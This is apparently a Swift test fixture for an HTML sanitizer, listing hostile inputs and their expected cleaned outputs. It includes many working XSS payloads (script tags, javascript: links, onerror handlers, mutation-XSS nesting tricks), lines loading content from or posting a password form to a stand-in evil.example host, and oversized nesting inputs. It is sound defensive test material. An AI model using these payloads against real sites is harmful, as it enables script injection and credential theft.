import Testing

@testable import Markup

/// Shapes that have got past sanitizers, written for this test, and what is left of each; nil where only the rules matter.
enum HostileHTML {
  struct Shape: Sendable, CustomTestStringConvertible {
    let input: String
    let output: String?
    init(_ input: String, _ output: String? = nil) {
      self.input = input
      self.output = output
    }
    var testDescription: String { String(input.prefix(60)) }
  }

  static let rel = #"rel="nofollow noopener ugc noreferrer""#

  static let shapes: [Shape] = script + links + attributes + mutation + nesting
  static let script: [Shape] = [
    Shape("<script>alert(1)</script>", ""),
    Shape("a<script src=//evil.example></script>b", "ab"),
    Shape("<SCRIPT>alert(1)</SCRIPT >x", "x"),
    Shape("<scr<script>ipt>alert(1)</script>"),
    Shape("<script/x>alert(1)</script/x>", ""),
    Shape("<<script>alert(1)//<</script>", "&lt;"),
    Shape("<style>@import '//evil.example';</style>x", "x"),
    Shape("<style><img src=x onerror=alert(1)></style>", ""),
    Shape("<iframe src=\"javascript:alert(1)\">f</iframe>x", "x"),
    Shape("<iframe srcdoc='<script>alert(1)</script>'></iframe>", ""),
    Shape("<object data=\"data:text/html,<script>alert(1)</script>\">o</object>", ""),
    Shape("<embed src=\"//evil.example/x.swf\">x", "x"),
    Shape("<svg onload=alert(1)>", ""),
    Shape("<svg><script>alert(1)</script><p>t</svg>"),
    Shape("<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>y", "y"),
    Shape("<svg><animate onbegin=alert(1) attributeName=x></svg>", ""),
    Shape("<meta http-equiv=refresh content='0;url=//evil.example'>x", "x"),
    Shape("<base href='//evil.example/'><a href='/x'>y</a>", "y"),
    Shape("<link rel=stylesheet href=//evil.example/x.css>x", "x"),
    Shape("<form action=//evil.example><input name=password><button>go</button></form>", "go"),
  ]

  static let links: [Shape] = [
    Shape("<a href=\"javascript:alert(1)\">x</a>", "x"),
    Shape("<a href=\"JaVaScRiPt:alert(1)\">x</a>", "x"),
    Shape("<a href=\"java\tscript:alert(1)\">x</a>", "x"),
    Shape("<a href=\"java&#x09;script:alert(1)\">x</a>", "x"),
    Shape("<a href=\"&#106;&#97;&#118;&#97;&#115;cript:alert(1)\">x</a>", "x"),
    Shape("<a href=\" \u{1}javascript:alert(1)\">x</a>", "x"),
    Shape("<a href='vbscript:msgbox(1)'>x</a>", "x"),
    Shape("<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>", "x"),
    Shape("<a href='//evil.example/x'>x</a>", "x"),
    Shape("<a href='/local'>x</a>", "x"),
    Shape("<a href='https:evil.example'>x</a>", "x"),
    Shape("<a href='https://good.example@evil.example/'>x</a>", "x"),
    Shape("<a href='https://good.example\\@evil.example/'>x</a>", "x"),
    Shape("<a href='https://x.example/\n/y'>x</a>", "x"),
    Shape("<a href='https:///etc/passwd'>x</a>", "x"),
    Shape("<a href='https://a.example:80:80/'>x</a>", "x"),
    Shape("<a href='https://a.example:65536/'>x</a>", "x"),
    Shape("<a href='https://[::1'>x</a>", "x"),
    Shape("<a href='https://a.example:8443/'>x</a>", "<a href=\"https://a.example:8443/\" \(rel)>x</a>"),
    Shape(
      "<a href='HTTPS://x.example/?a=1&b=\"><script>'>x</a>",
      "<a href=\"HTTPS://x.example/?a=1&amp;b=%22%3E%3Cscript%3E\" \(rel)>x</a>"),
    Shape("<a href='https://a.example'>x<a href='https://b.example'>y</a></a>"),
    Shape("<img src=x onerror=alert(1)>", ""),
    Shape("<img src='javascript:alert(1)' alt='p'>", "p"),
    Shape(
      "<img src='https://m.example/1.png' alt='a \"b\" <c>' onload=alert(1)>",
      "<a href=\"https://m.example/1.png\" \(rel)>a &quot;b&quot; &lt;c&gt;</a>"),
    Shape("<image src=https://m.example/1.png>", "<a href=\"https://m.example/1.png\" \(rel)>image</a>"),
  ]

  static let attributes: [Shape] = [
    Shape("<p onclick=alert(1) style='position:fixed' id=login class='h-card modal'>x</p>", "<p>x</p>"),
    Shape(
      "<span class=\"h-card x mention  u-url\nevil e-CONTENT\" onmouseover=a()>x</span>",
      "<span class=\"h-card mention u-url\">x</span>"),
    Shape("<b/onmouseover=alert(1)>x</b>", "<strong>x</strong>"),
    Shape("<p \"\"='x>y' `=z onfocus\u{c}=alert(1) autofocus>x</p>", "<p>x</p>"),
    Shape("<td onclick=x background='javascript:1'>x</td>", "x"),
    Shape("<ol start='3' type=a reversed><li value=9>x</li></ol>", "<ol start=\"3\"><li>x</li></ol>"),
    Shape("<ol start='99999999999999999999'><li>x</ol>", "<ol><li>x</li></ol>"),
    Shape("<span class='\"><script>alert(1)</script>'>x</span>", "<span>x</span>"),
    Shape("<p title='--><img src=x onerror=alert(1)>'>x</p>", "<p>x</p>"),
  ]

  static let mutation: [Shape] = [
    Shape("<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">"),
    Shape("<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"),
    Shape("<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">"),
    Shape("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    Shape("<template><img src=x onerror=alert(1)></template>"),
    Shape("<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">"),
    Shape("<title><p title=\"</title><script>alert(1)</script>\">"),
    Shape("<!--><img src=x onerror=alert(1)>-->", "--&gt;"),
    Shape("<!-- --!><script>alert(1)</script> -->", " --&gt;"),
    Shape("<![CDATA[<script>alert(1)</script>]]>", "alert(1)]]&gt;"),
    Shape("<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>x"),
    Shape("<math href=\"javascript:alert(1)\"><mi>x</mi></math>", "<code>x</code>"),
    Shape("<math><maction actiontype=statusline xlink:href=javascript:alert(1)>go</maction></math>", "<code>go</code>"),
    Shape(
      "<math><semantics><mi>x</mi><annotation encoding='application/x-tex'></math><script>alert(1)</script></annotation></semantics></math>"
    ),
    Shape(
      "<math display=block><semantics><mi>x</mi><annotation encoding='Application/X-TeX'> a&lt;b </annotation></semantics></math>",
      "<code>a&lt;b</code>"),
    Shape("<table><caption>c<tr><td><svg><desc><td><style></desc></style><img src=x onerror=alert(1)></table>"),
    Shape("<table>t<tr>u<td>v</table>"),
    Shape("<select><template><style><!--</style><a rel=\"--></style></template></select><img id=x src onerror=alert(1)>\">"),
    Shape("<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">"),
    Shape("<plaintext><script>alert(1)</script>", "<pre>&lt;script&gt;alert(1)&lt;/script&gt;</pre>"),
    Shape("<noembed><style></noembed><img src=x onerror=alert(1)></style>", ""),
    Shape("<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>x"),
    Shape("<select><option><script>alert(1)</script>o</select>"),
    Shape("<isindex type=image src=1 onerror=alert(1)>"),
    Shape("\u{0}<scr\u{0}ipt>alert(1)</scr\u{0}ipt>"),
    Shape("<table><math><select><mtext><select><tfoot>"),
  ]

  static let nesting: [Shape] = [
    Shape("<p>a<p>b<div>c</div>d<h1>e</h1>", "<p>a</p><p>b</p>c<br>d<h2>e</h2>"),
    Shape("<b><i>x</b>y</i>z", "<strong><em>x</em></strong><em>y</em>z"),
    Shape("<ul><li>a<li>b<ul><li>c</ul></ul>", "<ul><li>a</li><li>b<ul><li>c</li></ul></li></ul>"),
    Shape("<li>alone</li>", "alone"),
    Shape("<p><button><p>x</button>y"),
    Shape("<a href='https://a.example'><table><tr><td><a href='https://b.example'>x</a></table></a>"),
    Shape("<pre>\n\n x</pre>", "<pre>\n\n x</pre>"),
    Shape("x&#13;&#0;&#x80;&#xFDD0;y", "x\n\u{FFFD}€y"),
    Shape(String(repeating: "<div>", count: 300) + "deep", "deep"),
    Shape(String(repeating: "<blockquote>", count: 300) + "deep"),
    Shape(String(repeating: "<div>", count: 200_000) + "deep"),
    Shape(String(repeating: "<span>", count: 15_000) + String(repeating: "</sub>", count: 100_000)),
    Shape((0..<3_000).map { "<b a=\($0)>" }.joined() + String(repeating: "<p>x", count: 3_000)),
    Shape("<a " + (0..<100_000).map { "a\($0) " }.joined() + ">x</a>"),
    Shape("<table>" + String(repeating: "<tr><td><table>", count: 2_000)),
    Shape(String(repeating: "<img src=https://x.example/a>", count: 15_000)),
    Shape(String(repeating: "&", count: 900_000), String(repeating: "&amp;", count: MarkupLimits.outputBytes / 6)),
    Shape("<unclosed attr=\"never"),
    Shape("text <"),
    Shape("", ""),
  ]
}
